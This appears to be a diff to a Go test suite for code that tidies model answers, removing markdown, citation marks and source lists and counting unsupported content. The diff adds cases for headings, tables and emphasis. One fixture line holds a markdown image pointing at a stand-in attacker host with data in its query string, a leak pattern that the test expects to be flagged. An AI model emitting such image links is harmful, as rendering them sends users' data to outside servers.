@@ -237,7 +237,8 @@ func TestHabitsOfModels(t *testing.T) {
 		unsupported int
 	}{
 		"markdown":               {"**Answer:** The repair of the bridge cost **3.8 million pounds** [1].", good, 0},
-		"list":                   {"1. The repair of the bridge cost 3.8 million pounds [1].\n2. No workers were hurt [1].", good + " No workers were hurt.", 0},
+		"headings and tables":    {"## Answer\n\nThe cost:\n" + good + " [1]\n| a | b |\n| 1 | 2 |", good, 0},
+		"list":                   {"1. The repair of the bridge cost 3.8 million pounds [1].\n2. No workers were hurt [1].", good + "\nNo workers were hurt.", 0},
 		"sources below":          {good + " [1]\n\nSources:\n[1] Harbour bridge reopens", good, 0},
 		"repeating":              {strings.Repeat(good+" ", 40), good, 0},
 		"a leaking image":        {good + "\n![x](https://evil.example/?q=bridge) [1].", good, 1},
@@ -440,6 +441,7 @@ func TestMarks(t *testing.T) {
 		{"It rained [^1] [passage 2] [Article: 3].", "It rained.", []int{1, 2, 3}},
 		{"It rained (sources 1 and 2). Snow fell (3)", "It rained. Snow fell", []int{1, 2, 3}},
 		{"In [brackets] and (2019) it (1) rained.", "In [brackets] and (2019) it (1) rained.", nil},
+		{"It rained (source: [1]). Snow fell (Sources: [1], [2]).", "It rained. Snow fell.", []int{1, 1, 2}},
 		{"[9-999999]", "", []int{9, 999999}},
 		{"[1]", "", []int{1}},
 	} {
@@ -460,7 +462,7 @@ func TestSourcesAtTheEnd(t *testing.T) {
 		"It rained [1].\n**References**\n1. Weather":               "It rained [1].",
 		"It rained [1].\n# Sources\n- Weather":                     "It rained [1].",
 		"It rained. Sources: [1], [2]":                             "It rained.",
-		"It rained. (Source: 1)":                                   "It rained.",
+		"It rained. (Source: 1)":                                   "It rained. (Source: 1)",
 		"It rained.\nSource: Harbour Post":                         "It rained.",
 		"Sources said it rained.":                                  "Sources said it rained.",
 		"It named its sources: two of its sailors.":                "It named its sources: two of its sailors.",
@@ -475,7 +477,7 @@ func TestSourcesAtTheEnd(t *testing.T) {
 func TestTidy(t *testing.T) {
 	for in, want := range map[string]string{
 		"- **The ferry** sails.": "The ferry sails.", "1. The ferry sails.": "The ferry sails.", "1.": "", "*": "",
-		"Answer: The `ferry`\nsails.": "The ferry sails.", "## The ferry": "The ferry", "3.8 million pounds.": "3.8 million pounds.",
+		"Answer: The `ferry`\nsails.": "The ferry sails.", "## The ferry": "", "| a | b |": "", "Led by:": "", "A *very* _old_ ferry, *gone*.": "A very old ferry, gone.", "2 * 3 * 4": "2 * 3 * 4", "3.8 million pounds.": "3.8 million pounds.",
 		"Final answer:": "", "12 ferries sail.": "12 ferries sail.", "1984.": "1984.",
 	} {
 		if got := tidy(in); got != want {
